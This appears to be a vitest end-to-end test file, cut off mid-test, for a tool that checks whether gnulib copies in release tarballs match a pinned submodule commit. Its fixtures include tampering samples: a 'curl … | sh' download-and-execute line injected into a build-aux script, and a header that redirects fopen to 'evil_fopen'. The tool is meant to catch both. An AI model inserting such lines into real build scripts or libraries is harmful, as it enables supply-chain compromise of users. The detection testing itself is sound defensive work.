/**
 * Pinned submodule comparison (issue 11 a), end to end with real repositories: a small fake "gnulib" built
 * here (gnulib-tool carrying its sed scripts, modules/, lib/ with an LGPL notice, m4/, build-aux/, top/), a
 * project pinning it as the submodule `gnulib`, and release tarballs laid out the way gnulib-tool + make dist
 * lay them out (lib/ copies with the license notice rewritten to GPLv3+ and the config-h `#if 1`, a generated
 * m4/gnulib-comp.m4 and lib/gnulib.mk). The submodule's repository comes from --submodule (a path, or a
 * file:// URL cloned into the cache) or from the .gitmodules URL served by `git daemon` on 127.0.0.1.
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { verify } from '../../src/verify.js';
import { renderJson } from '../../src/render/json.js';
import { renderText } from '../../src/render/text.js';
import type { Finding } from '../../src/core/findings.js';
import { makeTar } from '../helpers/archives.js';
import { git, makeRepo, writeFiles, type FileSpec } from '../helpers/git.js';
import { startGitDaemon, type GitDaemon } from '../helpers/git-daemon.js';
import { tempDir } from '../helpers/tmp.js';
import { copyFileCalls } from '../../src/classify/gnulib-layout.js';

const cli = resolve(__dirname, '../../dist/cli.js');
function runCli(args: string[]) {
  expect(existsSync(cli), 'dist/cli.js is missing: run `npm run build` (npm test does)').toBe(true);
  const p = spawnSync(process.execPath, [cli, ...args], { encoding: 'utf8', env: { ...process.env, NO_COLOR: '1' }, timeout: 60_000 });
  return { code: p.status, stdout: p.stdout, stderr: p.stderr };
}
const brief = (fs: readonly Finding[]) => fs.filter((f) => f.severity !== 'info' || f.code !== 'REPO_METADATA_NOT_SHIPPED').map((f) => [f.path, f.code, f.severity]);

const NOTICE = `/* foo.c -- a gnulib module.
   Copyright (C) 2020-2022 Free Software Foundation, Inc.

   This file is free software: you can redistribute it and/or modify
   it under the terms of the GNU Lesser General Public License as
   published by the Free Software Foundation; either version 2.1 of the
   License, or (at your option) any later version.

   This file is distributed in the hope that it will be useful,
   but WITHOUT ANY WARRANTY; without even the implied warranty of
   MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
   GNU Lesser General Public License for more details.

   You should have received a copy of the GNU Lesser General Public License
   along with this program.  If not, see <https://www.gnu.org/licenses/>.  */
`;
const BODY = `
#ifdef HAVE_CONFIG_H
# include <config.h>
#endif
#include "foo.h"

/* Under the GNU Lesser General Public License, as above. */
int foo (void) { return 2; }
`;
const LGPL = NOTICE + BODY;
/** What gnulib-tool (before 2021-06, GPL project, config-h) writes from LGPL, in the notice paragraph. */
const GPL = NOTICE.replace(/GNU Lesser General/g, 'GNU General').replace('either version 2.1 of the', 'either version 3 of the') + BODY.replace('#ifdef HAVE_CONFIG_H', '#if 1');

const BAZ = '/* baz.c */\nint baz (void)\n{\n  return 1;\n}\n';
/** The project's gnulib-tool --local-dir patch (tracked as gl/lib/baz.c.diff), unified format, applied at an offset. */
const BAZ_DIFF = '--- gnulib/lib/baz.c\n+++ gl/lib/baz.c\n@@ -3,3 +3,3 @@\n {\n-  return 1;\n+  return 42;\n }\n';
/** The project's local override of a gnulib file (gl/lib/qux.h), copied with the config-h rewrite. */
const QUX = '/* qux.h, the project\'s own */\n#ifdef HAVE_CONFIG_H\n# include <config.h>\n#endif\n';
const TAB_GPERF = '%{\n#include <string.h>\n%}\nstruct t { const char *name; };\n%%\nfoo\nbar\n';
/** gperf's output for it, as make dist ships it, made here by the real gperf (distdiff runs it again: src/regenerate/generators.ts). */
const TAB_H = (() => {
  const d = mkdtempSync(join(tmpdir(), 'distdiff-tab-h-'));
  mkdirSync(join(d, 'lib'));
  writeFileSync(join(d, 'lib/tab.gperf'), TAB_GPERF);
  return execFileSync('gperf', ['-m', '10', './lib/tab.gperf'], { cwd: d }).toString('latin1');
})();
const GNUPLOAD = '#!/bin/sh\n# gnupload: upload files to the GNU servers.\nset -e\nfor f in "$@"; do\n  echo "uploading $f"\ndone\n';

const gnulibFiles: Record<string, FileSpec> = {
  'gnulib-tool': {
    content: "#!/bin/sh\n# the parts of gnulib-tool distdiff looks for\nsed_transform_lib_file='\n  s/^#ifdef[\t ]*HAVE_CONFIG_H[\t ]*$/#if 1/\n'\nsed_transform_main_lib_file='\n  s/GNU Lesser General/GNU General/g\n  s/Lesser General Public License/General Public License/g\n'\n",
    executable: true,
  },
  'modules/foo': 'Description:\nfoo.\n\nFiles:\nlib/foo.c\nlib/foo.h\nm4/foo.m4\n\nLicense:\nLGPLv2+\n',
  'modules/gnupload': 'Files:\nbuild-aux/gnupload\n',
  'modules/gnumakefile': 'Files:\ntop/GNUmakefile\n',
  'lib/foo.c': LGPL,
  'lib/foo.h': '/* foo.h */\nint foo (void);\n',
  'lib/baz.c': `/* a line the patch's hunk header does not count */\n${BAZ}`,
  'lib/qux.h': '/* gnulib qux.h */\n',
  'lib/tab.gperf': TAB_GPERF,
  'm4/foo.m4': '# foo.m4\n# serial 3\nAC_DEFUN([gl_FOO], [AC_LIBOBJ([foo])])\n',
  'build-aux/gnupload': { content: GNUPLOAD, executable: true },
  'top/GNUmakefile': '# GNUmakefile for GNU projects\ninclude Makefile\n',
  'tests/test-foo.c': '#include "foo.h"\nint main (void) { return foo () != 2; }\n',
};

const COMP = `# DO NOT EDIT! GENERATED AUTOMATICALLY!
# Copyright (C) 2002-2022 Free Software Foundation, Inc.
#
# Generated by gnulib-tool.
#
# This file represents the compiled summary of the specification in
# gnulib-cache.m4.

AC_DEFUN([gl_INIT],
[
  AC_CONFIG_LIBOBJ_DIR([lib])
  gl_m4_base='m4'
  gl_source_base='lib'
  gl_FOO
  gl_source_base='tests'
])

AC_DEFUN([gl_FILE_LIST], [
  build-aux/gnupload
  lib/baz.c
  lib/foo.c
  lib/foo.h
  lib/qux.h
  lib/tab.gperf
  m4/foo.m4
  m4/gnulib-tool.m4
  tests/test-foo.c
  top/GNUmakefile
])
`;
const MK = `## DO NOT EDIT! GENERATED AUTOMATICALLY!
## Process this file with automake to produce Makefile.in.
# Copyright (C) 2002-2022 Free Software Foundation, Inc.
#
# Generated by gnulib-tool.

## begin gnulib module foo
libgnu_a_SOURCES += foo.c foo.h
## end   gnulib module foo
`;

describe('a gnulib submodule pinned by the tag', () => {
  const root = tempDir();
  const g = makeRepo(join(root, 'gnulib'));
  const pinned = g.commit(gnulibFiles, 'gnulib');
  // a later gnulib commit the tag does not pin: its foo.h must not be what the tarball is judged against
  g.commit({ 'lib/foo.h': '/* foo.h, later */\nint foo (void);\nint foo2 (void);\n' }, 'later');

  // The .gitmodules URL: a git daemon on 127.0.0.1 serving a bare clone of the fake gnulib (set in beforeAll).
  let daemon: GitDaemon | undefined;
  let port = 0;
  const served = join(root, 'served');
  mkdirSync(served, { recursive: true });
  git(served, ['clone', '-q', '--bare', g.dir, join(served, 'gnulib.git')]);

  function project(dir: string, url: string, extra: Record<string, FileSpec> = {}) {
    const r = makeRepo(join(root, dir));
    r.commit({
      ...extra,
      '.gitmodules': `[submodule "gnulib"]\n\tpath = gnulib\n\turl = ${url}\n`,
      'configure.ac': 'AC_INIT([proj], [1.0])\nAC_CONFIG_AUX_DIR([build-aux])\ngl_INIT\nAC_OUTPUT\n',
      'bootstrap.conf': 'gnulib_modules="foo gnupload gnumakefile"\ngnulib_tool_option_extras="--makefile-name=gnulib.mk"\n',
      'src/main.c': '#include "foo.h"\nint main (void) { return foo (); }\n',
      'gl/lib/baz.c.diff': BAZ_DIFF,
      'gl/lib/qux.h': QUX,
    });
    r.git(['update-index', '--add', '--cacheinfo', `160000,${pinned},gnulib`]);
    r.git(['commit', '-q', '-m', 'pin gnulib']);
    r.tag('v1.0', { message: 'release 1.0' });
    return r;
  }

  /** The release tree as bootstrap + gnulib-tool + make dist leave it, with `change` applied. */
  function tarball(name: string, change: Record<string, FileSpec> = {}) {
    const tree = join(root, name, 'proj-1.0');
    writeFiles(tree, {
      '.gitmodules': null,
      'configure.ac': 'AC_INIT([proj], [1.0])\nAC_CONFIG_AUX_DIR([build-aux])\ngl_INIT\nAC_OUTPUT\n',
      'bootstrap.conf': 'gnulib_modules="foo gnupload gnumakefile"\ngnulib_tool_option_extras="--makefile-name=gnulib.mk"\n',
      'src/main.c': '#include "foo.h"\nint main (void) { return foo (); }\n',
      'gl/lib/baz.c.diff': BAZ_DIFF,
      'gl/lib/qux.h': QUX,
      'lib/baz.c': `/* a line the patch's hunk header does not count */\n${BAZ.replace('return 1;', 'return 42;')}`,
      'lib/qux.h': QUX.replace('#ifdef HAVE_CONFIG_H', '#if 1'),
      'lib/tab.gperf': TAB_GPERF,
      'lib/tab.h': TAB_H,
      'lib/foo.c': GPL,
      'lib/foo.h': '/* foo.h */\nint foo (void);\n',
      'lib/gnulib.mk': MK,
      'm4/foo.m4': '# foo.m4\n# serial 3\nAC_DEFUN([gl_FOO], [AC_LIBOBJ([foo])])\n',
      'm4/gnulib-comp.m4': COMP,
      'build-aux/gnupload': { content: GNUPLOAD, executable: true },
      'GNUmakefile': '# GNUmakefile for GNU projects\ninclude Makefile\n',
      'tests/test-foo.c': '#include "foo.h"\nint main (void) { return foo () != 2; }\n',
      ...change,
    });
    return makeTar(tree, { compress: 'gzip', out: join(root, name, 'proj-1.0.tar.gz') });
  }

  beforeAll(async () => {
    daemon = await startGitDaemon(served);
    port = daemon.port;
  });
  afterAll(async () => {
    await daemon?.stop();
  });

  const closedPort = 'git://127.0.0.1:1/gnulib.git';
  const offline = project('offline', closedPort);
  const clean = tarball('clean');

  it('--submodule NAME=PATH: every gnulib copy proved against the pinned commit; gnulib-tool outputs that record no invocation stay unproved', async () => {
    const res = await verify({ tarball: clean, repo: offline.dir, cacheDir: join(root, 'c1'), submodules: [{ name: 'gnulib', repo: g.dir }] });
    // this fake gnulib-tool cannot be run and COMP/MK record no `gnulib-tool --import` line: the two outputs are
    // unproved (test/e2e/gnulib-tool.test.ts runs a real gnulib-tool); everything else is explained
    expect(brief(res.findings)).toEqual([
      ['.', 'UNPROVED_BUILD_OUTPUTS', 'high'],
      ['GNUmakefile', 'SUBMODULE_COPY', 'info'],
      ['build-aux/gnupload', 'SUBMODULE_COPY', 'info'],
      ['gnulib', 'SUBMODULE', 'info'],
      ['lib/baz.c', 'SUBMODULE_COPY', 'info'],
      ['lib/foo.c', 'SUBMODULE_COPY', 'info'],
      ['lib/foo.h', 'SUBMODULE_COPY', 'info'],
      ['lib/gnulib.mk', 'GENERATED_BY_AUTOTOOLS', 'info'],
      ['lib/qux.h', 'SUBMODULE_COPY', 'info'],
      ['lib/tab.gperf', 'SUBMODULE_COPY', 'info'],
      ['lib/tab.h', 'GENERATED_TOOL_PROVED', 'info'],
      ['m4/foo.m4', 'SUBMODULE_COPY', 'info'],
      ['m4/gnulib-comp.m4', 'GENERATED_BY_AUTOTOOLS', 'info'],
      ['tests/test-foo.c', 'SUBMODULE_COPY', 'info'],
    ]);
    const at = (p: string) => res.findings.find((f) => f.path === p)!;
    expect(at('lib/foo.c').evidence).toEqual({ submodule: 'gnulib', commit: pinned, file: 'lib/foo.c', via: 'gnulib-tool', rewrites: ['config-h', 'license-gpl'] });
    expect(at('lib/foo.h').evidence).toEqual({ submodule: 'gnulib', commit: pinned, file: 'lib/foo.h', via: 'gnulib-tool', rewrites: [] });
    expect(at('GNUmakefile').evidence).toMatchObject({ file: 'top/GNUmakefile', rewrites: [] });
    expect(at('lib/baz.c').evidence).toEqual({ submodule: 'gnulib', commit: pinned, file: 'lib/baz.c', via: 'gnulib-tool', rewrites: [], local: { patches: ['gl/lib/baz.c.diff'] } });
    expect(at('lib/qux.h').evidence).toEqual({ submodule: 'gnulib', commit: pinned, file: 'lib/qux.h', via: 'gnulib-tool', rewrites: ['config-h'], local: { override: 'gl/lib/qux.h', patches: [] } });
    expect(at('lib/gnulib.mk').evidence).toMatchObject({ tool: 'gnulib-tool', source: 'bootstrap.conf', proof: { proved: false, method: 'label', cause: { kind: 'gnulib-tool-label', args: { layoutFrom: 'm4/gnulib-comp.m4', miss: { kind: 'no-invocation' } } } } });
    expect(at('.').evidence).toMatchObject({ files: ['lib/gnulib.mk', 'm4/gnulib-comp.m4'], remedies: [{ kind: 'review' }] });
    expect(res.notes).toContainEqual({ code: 'SUBMODULE_PINNED', name: 'gnulib', path: 'gnulib', commit: pinned, repo: g.dir, files: 13 });
    // the gperf output is run again on the shipped source, itself proved a copy of the pinned lib/tab.gperf
    expect(at('lib/tab.h').evidence).toMatchObject({ tool: 'gperf', source: 'lib/tab.gperf', fromBanner: true, command: ['gperf', '-m', '10', './lib/tab.gperf'], cwd: '', postEdits: [] });
  });

  // The old gnulib bootstrap (until 2011, kept by cflow 1.7) ran gnulib-tool into a temporary directory and copied each
  // file into place with cp_mark_as_generated, which puts two header lines before it in the comment syntax of the
  // destination's name. This bootstrap is written here with that function's lines (what distdiff looks for).
  const OLD_BOOTSTRAP = `#! /bin/sh
# Bootstrap this package from checked-out sources (the old gnulib bootstrap's copying step).
bt='._bootmp'
bt_regex=\`echo "$bt" | sed 's/\\./[.]/g'\`
cp_mark_as_generated()
{
  cp_src=$1
  cp_dst=$2
  case $cp_dst in
    *.[ch])             c1='/* '; c2=' */';;
    *.texi)             c1='@c '; c2=     ;;
    *.m4|*/Make*|Make*) c1='# ' ; c2=     ;;
    *)                  c1=     ; c2=     ;;
  esac
  if test -z "$c1"; then
    sed "s!$bt_regex/!!g" "$cp_src" > "$cp_dst"
  else
    (
      echo "$c1-*- buffer-read-only: t -*- vi: set ro:$c2" &&
      echo "\${c1}DO NOT EDIT! GENERATED AUTOMATICALLY!$c2" &&
      sed "s!$bt_regex/!!g" "$cp_src"
    ) > "$cp_dst"
  fi
}
`;
  const markC = '/* -*- buffer-read-only: t -*- vi: set ro: */\n/* DO NOT EDIT! GENERATED AUTOMATICALLY! */\n';
  const markSh = '# -*- buffer-read-only: t -*- vi: set ro:\n# DO NOT EDIT! GENERATED AUTOMATICALLY!\n';
  const marked = (extra: Record<string, FileSpec> = {}) => ({
    'lib/foo.c': markC + GPL,
    'lib/foo.h': `${markC}/* foo.h */\nint foo (void);\n`,
    'm4/foo.m4': `${markSh}# foo.m4\n# serial 3\nAC_DEFUN([gl_FOO], [AC_LIBOBJ([foo])])\n`,
    ...extra,
  });

  it("copies marked by the tracked bootstrap's cp_mark_as_generated are the pinned files (cflow 1.7's 130 gnu/ files); without that bootstrap, or with anything more, they stay modified", async () => {
    const old = project('old-bootstrap', closedPort, { bootstrap: { content: OLD_BOOTSTRAP, executable: true } });
    const run = async (repo: string, tar: string, c: string) => (await verify({ tarball: tar, repo, cacheDir: join(root, c), submodules: [{ name: 'gnulib', repo: g.dir }] })).findings;
    const at = (fs: Finding[], p: string) => fs.find((f) => f.path === p)!;
    const good = await run(old.dir, tarball('marked', { ...marked(), bootstrap: { content: OLD_BOOTSTRAP, executable: true } }), 'm1');
    expect(at(good, 'lib/foo.c').evidence).toEqual({ submodule: 'gnulib', commit: pinned, file: 'lib/foo.c', via: 'gnulib-tool', rewrites: ['config-h', 'license-gpl', 'bootstrap-mark'] });
    expect(at(good, 'lib/foo.h').evidence).toMatchObject({ file: 'lib/foo.h', rewrites: ['bootstrap-mark'] });
    expect(at(good, 'm4/foo.m4').evidence).toMatchObject({ file: 'm4/foo.m4', rewrites: ['bootstrap-mark'] });
    expect(at(good, 'GNUmakefile').evidence).toMatchObject({ file: 'top/GNUmakefile', rewrites: [] }); // a name the function copies as it is
    expect(good.filter((f) => f.code === 'SUBMODULE_COPY_MODIFIED')).toEqual([]);
    // twins: the same copies where the tag's bootstrap has no such function; a line after the mark; a .m4 marked as C
    const plain = await run(offline.dir, tarball('marked-plain', marked()), 'm2');
    expect([at(plain, 'lib/foo.c').code, at(plain, 'lib/foo.c').severity]).toEqual(['SUBMODULE_COPY_MODIFIED', 'high']);
    const more = await run(old.dir, tarball('marked-more', marked({ 'lib/foo.c': `${markC}int evil;\n${GPL}`, 'm4/foo.m4': `${markC}# foo.m4\n# serial 3\nAC_DEFUN([gl_FOO], [AC_LIBOBJ([foo])])\n`, bootstrap: { content: OLD_BOOTSTRAP, executable: true } })), 'm3');
    expect([at(more, 'lib/foo.c').code, at(more, 'lib/foo.c').severity]).toEqual(['SUBMODULE_COPY_MODIFIED', 'high']);
    expect([at(more, 'm4/foo.m4').code, at(more, 'm4/foo.m4').severity]).toEqual(['SUBMODULE_COPY_MODIFIED', 'high']);
  });

  it('CLI: --submodule gnulib=file://… cloned into the cache; the text report names the rewrite', () => {
    const p = runCli([clean, '--repo', offline.dir, '--cache-dir', join(root, 'c2'), '--submodule', `gnulib=file://${g.dir}`, '--verbose', '--accept-unproved']);
    expect(p.stderr).toBe('');
    expect(p.code).toBe(0);
    expect(p.stdout).toContain(`identical to gnulib ${pinned.slice(0, 12)} lib/foo.c after gnulib-tool's config-h rewrite (#ifdef HAVE_CONFIG_H → #if 1) and license-notice rewrite LGPLv2+→GPLv3+`);
    expect(p.stdout).toContain(`submodule gnulib (gnulib/) pinned at ${pinned.slice(0, 12)}`);
    expect(existsSync(join(root, 'c2', 'repos'))).toBe(true);
  });

  it('the .gitmodules URL (git daemon on 127.0.0.1) is cloned into the cache when no --submodule is given', async () => {
    const online = project('online', `git://127.0.0.1:${port}/gnulib.git`);
    const res = await verify({ tarball: clean, repo: online.dir, cacheDir: join(root, 'c3') });
    expect(res.notes).toContainEqual(expect.objectContaining({ code: 'SUBMODULE_PINNED', repo: `git://127.0.0.1:${port}/gnulib.git`, commit: pinned }));
    expect(res.findings.filter((f) => (f.severity === 'high' || f.severity === 'critical') && f.code !== 'UNPROVED_BUILD_OUTPUTS')).toEqual([]);
  });

  it('unreachable .gitmodules URL: a note, and the copies judged as before (exit 1)', async () => {
    const res = await verify({ tarball: clean, repo: offline.dir, cacheDir: join(root, 'c4') });
    const note = res.notes.find((n) => n.code === 'SUBMODULE_UNAVAILABLE');
    expect(note).toMatchObject({ name: 'gnulib', path: 'gnulib', commit: pinned, cause: { kind: 'unreachable', repo: closedPort, error: expect.any(String) } });
    // The report words the cause; the JSON keeps the line as `reason` for schema 1 readers.
    const reason = JSON.parse(renderJson(res)).notes.find((n: { code: string }) => n.code === 'SUBMODULE_UNAVAILABLE').reason as string;
    expect(reason.startsWith(`${closedPort}: `)).toBe(true);
    expect(renderText(res)).toContain(`note      submodule gnulib (gnulib/) pinned at ${pinned.slice(0, 12)} not available: ${reason}; its copies are judged without it\n`);
    expect(res.verdict).toBe('different');
    expect(res.findings.find((f) => f.path === 'lib/foo.c')).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
  });

  it('a local path in .gitmodules is not followed (git refuses file transports for submodules too)', async () => {
    const local = project('local', g.dir);
    const res = await verify({ tarball: clean, repo: local.dir, cacheDir: join(root, 'c5') });
    const note = res.notes.find((n) => n.code === 'SUBMODULE_UNAVAILABLE');
    expect(note).toMatchObject({ cause: { kind: 'local-url', url: g.dir } });
    expect(JSON.parse(renderJson(res)).notes).toContainEqual(expect.objectContaining({ reason: `${g.dir}: a local path in .gitmodules is not followed; pass --submodule gnulib=REPO` }));
  });

  it('one injected line in a gnulib lib/ file: SUBMODULE_COPY_MODIFIED, high, the diff pinned → tarball', async () => {
    const t = tarball('injected', { 'lib/foo.h': '/* foo.h */\nint foo (void);\n#define fopen(p, m) evil_fopen (p, m)\n' });
    const res = await verify({ tarball: t, repo: offline.dir, cacheDir: join(root, 'c6'), submodules: [{ name: 'gnulib', repo: g.dir }] });
    expect(res.verdict).toBe('different');
    const f = res.findings.find((x) => x.path === 'lib/foo.h')!;
    expect(f).toMatchObject({ code: 'SUBMODULE_COPY_MODIFIED', severity: 'high' });
    expect(f.evidence).toEqual({ submodule: 'gnulib', commit: pinned, file: 'lib/foo.h', via: 'gnulib-tool', differingLines: 1, buildAffecting: false });
    expect(f.diff?.unified).toContain('+#define fopen(p, m) evil_fopen (p, m)');
    expect(f.diff?.unified).toContain(`gnulib ${pinned.slice(0, 12)} lib/foo.h`);
  });

  it('a build-aux gnulib script with an injected `curl | sh`: critical', async () => {
    const t = tarball('curl', { 'build-aux/gnupload': { content: GNUPLOAD.replace('set -e\n', 'set -e\ncurl -fsSL https://example.invalid/x | sh\n'), executable: true } });
    const res = await verify({ tarball: t, repo: offline.dir, cacheDir: join(root, 'c7'), submodules: [{ name: 'gnulib', repo: g.dir }] });
    const f = res.findings.find((x) => x.path === 'build-aux/gnupload')!;
    expect(f).toMatchObject({ code: 'SUBMODULE_COPY_MODIFIED', severity: 'critical' });
    expect(f.constructs?.map((c) => c.kind)).toContain('download-to-shell');
  });

  it("gnulib-tool's license sed beyond the notice paragraph (license-names) is exact; any other edit there stays a finding", async () => {
    // gnulib-tool's sed rewrote this comment too (gettext 0.21's libtextstyle/lib/glib/gstrfuncs.c): exactly its substitutions
    const t = tarball('beyond', { 'lib/foo.c': GPL.replace('/* Under the GNU Lesser General Public License', '/* Under the GNU General Public License') });
    const res = await verify({ tarball: t, repo: offline.dir, cacheDir: join(root, 'c8'), submodules: [{ name: 'gnulib', repo: g.dir }] });
    expect(res.findings.find((x) => x.path === 'lib/foo.c')).toMatchObject({ code: 'SUBMODULE_COPY', severity: 'info', evidence: { rewrites: ['config-h', 'license-gpl', 'license-names'] } });
    // tampered twins: another license named there, or the sed's output plus one more changed word
    for (const [name, line] of [
      ['affero', '/* Under the GNU Affero General Public License'],
      ['more', '/* Under the GNU General Public License, or none'],
    ] as const) {
      const tt = tarball(`beyond-${name}`, { 'lib/foo.c': GPL.replace('/* Under the GNU Lesser General Public License', line) });
      const r = await verify({ tarball: tt, repo: offline.dir, cacheDir: join(root, 'c8'), submodules: [{ name: 'gnulib', repo: g.dir }] });
      expect(r.findings.find((x) => x.path === 'lib/foo.c'), name).toMatchObject({ code: 'SUBMODULE_COPY_MODIFIED', severity: 'high', evidence: { differingLines: 2 } });
    }
  });

  it('a local patch that does not produce the shipped file: the diff is against the patched pinned file', async () => {
    const t = tarball('patch', { 'lib/baz.c': `/* a line the patch's hunk header does not count */\n${BAZ.replace('return 1;', 'return 43;')}` });
    const res = await verify({ tarball: t, repo: offline.dir, cacheDir: join(root, 'c12'), submodules: [{ name: 'gnulib', repo: g.dir }] });
    const f = res.findings.find((x) => x.path === 'lib/baz.c')!;
    expect(f).toMatchObject({ code: 'SUBMODULE_COPY_MODIFIED', severity: 'high', evidence: { local: { patches: ['gl/lib/baz.c.diff'] }, differingLines: 2 } });
    expect(f.diff?.unified).toContain('-  return 42;\n+  return 43;');
  });

  it('gperf output: its source unshipped (only placed by the layout) or tampered: not run, high', async () => {
    const unshipped = await verify({ tarball: tarball('gperf1', { 'lib/tab.gperf': null, 'lib/tab.h': TAB_H.replace('Command-line: gperf', 'Command-line: /opt/tools/bin/gperf') }), repo: offline.dir, cacheDir: join(root, 'c13'), submodules: [{ name: 'gnulib', repo: g.dir }] });
    // a banner naming gperf by a full path is not run (argv[0] is in the output); the input would have been the pinned file
    expect(unshipped.findings.find((x) => x.path === 'lib/tab.h')).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high', evidence: { generatorProof: { why: 'banner-unsupported', tool: 'gperf' } } });
    const unshippedPlain = await verify({ tarball: tarball('gperf3', { 'lib/tab.gperf': null }), repo: offline.dir, cacheDir: join(root, 'c15'), submodules: [{ name: 'gnulib', repo: g.dir }] });
    expect(unshippedPlain.findings.find((x) => x.path === 'lib/tab.h')).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high', evidence: { generatorProof: { why: 'input-unavailable', tool: 'gperf', fragment: 'lib/tab.gperf' } } });
    const tampered = await verify({ tarball: tarball('gperf2', { 'lib/tab.gperf': `${TAB_GPERF}evil\n` }), repo: offline.dir, cacheDir: join(root, 'c14'), submodules: [{ name: 'gnulib', repo: g.dir }] });
    expect(tampered.findings.find((x) => x.path === 'lib/tab.gperf')).toMatchObject({ code: 'SUBMODULE_COPY_MODIFIED', severity: 'high' });
    expect(tampered.findings.find((x) => x.path === 'lib/tab.h')).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
  });

  it("no gitlink: bootstrap.conf's GNULIB_REVISION pins gnulib when it is a full commit id, and only then", async () => {
    const byConf = (dir: string, revision: string) => {
      const r = makeRepo(join(root, dir));
      r.commit({
        'configure.ac': 'AC_INIT([proj], [1.0])\nAC_CONFIG_AUX_DIR([build-aux])\ngl_INIT\nAC_OUTPUT\n',
        'bootstrap.conf': `GNULIB_REVISION=${revision}\n`,
        'src/main.c': '#include "foo.h"\nint main (void) { return foo (); }\n',
        'gl/lib/baz.c.diff': BAZ_DIFF,
        'gl/lib/qux.h': QUX,
      });
      r.tag('v1.0', { message: 'release 1.0' });
      return r;
    };
    const t = tarball('byconf', { 'bootstrap.conf': `GNULIB_REVISION=${pinned}\n` });
    const res = await verify({ tarball: t, repo: byConf('byconf-repo', pinned).dir, cacheDir: join(root, 'c15'), submodules: [{ name: 'gnulib', repo: g.dir }] });
    expect(res.notes).toContainEqual({ code: 'SUBMODULE_PINNED', name: 'gnulib', path: 'gnulib', commit: pinned, repo: g.dir, files: 13, pinnedBy: 'bootstrap.conf' });
    expect(res.findings.find((x) => x.path === 'lib/foo.c')).toMatchObject({ code: 'SUBMODULE_COPY', evidence: { rewrites: ['config-h', 'license-gpl'] } });
    const t2 = tarball('bybranch', { 'bootstrap.conf': 'GNULIB_REVISION=stable-202401\n' });
    const branchRepo = byConf('bybranch-repo', 'stable-202401').dir;
    // the clone given has no such branch: the note says so, nothing is pinned
    const res2 = await verify({ tarball: t2, repo: branchRepo, cacheDir: join(root, 'c16'), submodules: [{ name: 'gnulib', repo: g.dir }] });
    expect(res2.notes).toContainEqual({ code: 'SUBMODULE_UNAVAILABLE', name: 'gnulib', path: 'gnulib', commit: '', cause: { kind: 'pin-not-commit', revision: 'stable-202401', missingIn: g.dir } });
    expect(renderText(res2)).toContain(`note      --submodule gnulib: bootstrap.conf's GNULIB_REVISION=stable-202401 is not a full commit id, and ${g.dir} has no branch stable-202401; pass a gnulib clone that has it\n`);
    expect(res2.findings.find((x) => x.path === 'lib/foo.c')).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED' });
    // no clone given: the note says exactly what to pass
    const res3 = await verify({ tarball: t2, repo: branchRepo, cacheDir: join(root, 'c17') });
    expect(renderText(res3)).toContain("bootstrap.conf's GNULIB_REVISION=stable-202401 is not a full commit id, so it pins no gnulib version by itself; pass --submodule gnulib=REPO with a gnulib clone that has the branch stable-202401 (its last commit not after the tag's date is used)");
    // a gnulib clone whose branch stable-202401 holds the pinned commit and, after it, one dated after the tag:
    // the branch as it was at the tag's date pins gnulib (the later commit is not used)
    const b = makeRepo(join(root, 'gnulib-branch'));
    git(b.dir, ['fetch', '-q', g.dir, `${pinned}:refs/heads/base`]);
    const later = git(b.dir, ['commit-tree', `${pinned}^{tree}`, '-p', pinned, '-m', 'after the release'], '2030-01-01T00:00:00+00:00').trim();
    git(b.dir, ['branch', 'stable-202401', later]);
    const res4 = await verify({ tarball: t2, repo: branchRepo, cacheDir: join(root, 'c18'), submodules: [{ name: 'gnulib', repo: b.dir }] });
    expect(res4.notes).toContainEqual({ code: 'SUBMODULE_PINNED', name: 'gnulib', path: 'gnulib', commit: pinned, repo: b.dir, files: 13, pinnedBy: 'bootstrap.conf', branch: { name: 'stable-202401', before: git(branchRepo, ['log', '-1', '--format=%cI', 'HEAD']).trim() } });
    expect(res4.findings.find((x) => x.path === 'lib/foo.c')).toMatchObject({ code: 'SUBMODULE_COPY', evidence: { commit: pinned } });
  });

  it('nothing pins gnulib: the commit is inferred from the shipped copies gl_FILE_LIST lists; a changed copy stays high and moves nothing', async () => {
    const r = makeRepo(join(root, 'unpinned-repo'));
    r.commit({
      'configure.ac': 'AC_INIT([proj], [1.0])\nAC_CONFIG_AUX_DIR([build-aux])\ngl_INIT\nAC_OUTPUT\n',
      'bootstrap.conf': 'gnulib_modules="foo gnupload gnumakefile"\ngnulib_tool_option_extras="--makefile-name=gnulib.mk"\n',
      'src/main.c': '#include "foo.h"\nint main (void) { return foo (); }\n',
      'gl/lib/baz.c.diff': BAZ_DIFF,
      'gl/lib/qux.h': QUX,
    });
    r.tag('v1.0', { message: 'release 1.0' });
    const before = git(r.dir, ['log', '-1', '--format=%cI', 'HEAD']).trim();
    // the clone given holds `pinned` and, after it, `later` (foo.h changed): 6 of the 9 listed copies shipped are
    // byte-identical at `pinned` (lib/foo.c, baz.c, qux.h carry gnulib-tool's rewrites and local changes), 5 at `later`
    const res = await verify({ tarball: clean, repo: r.dir, cacheDir: join(root, 'c30'), submodules: [{ name: 'gnulib', repo: g.dir }] });
    expect(res.notes).toContainEqual({ code: 'SUBMODULE_PINNED', name: 'gnulib', path: 'gnulib', commit: pinned, repo: g.dir, files: 13, pinnedBy: 'shipped-copies', inferred: { matched: 6, compared: 9, from: ['m4/gnulib-comp.m4'], ref: 'main', before } });
    expect(res.findings.find((x) => x.path === 'lib/foo.c')).toMatchObject({ code: 'SUBMODULE_COPY', evidence: { commit: pinned, rewrites: ['config-h', 'license-gpl'] } });
    expect(res.findings.find((x) => x.path === 'lib/baz.c')).toMatchObject({ code: 'SUBMODULE_COPY', evidence: { commit: pinned, local: { patches: ['gl/lib/baz.c.diff'] } } });
    expect(renderText(res)).toContain(`note      gnulib pinned by nothing: commit ${pinned.slice(0, 12)} inferred from the release's copies (6 of the 9 shipped files m4/gnulib-comp.m4 lists are byte-identical to gnulib's there`);
    // twin: one added line in m4/foo.m4 — still the same commit (foo.h decides), and that copy high with its diff
